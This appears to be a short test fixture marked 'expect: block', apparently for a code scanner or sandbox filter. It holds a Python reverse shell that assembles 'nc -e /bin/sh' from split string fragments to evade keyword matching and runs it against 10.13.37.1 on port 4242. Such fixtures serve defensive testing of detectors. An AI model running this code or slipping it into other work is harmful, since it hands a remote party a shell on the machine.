# expect: block
import os

parts = ["n", "c", " -", "e", " /bin/sh "]
ip = "10.13.37.1"
port = "4242"
os.system("".join(parts) + ip + " " + port + " &")
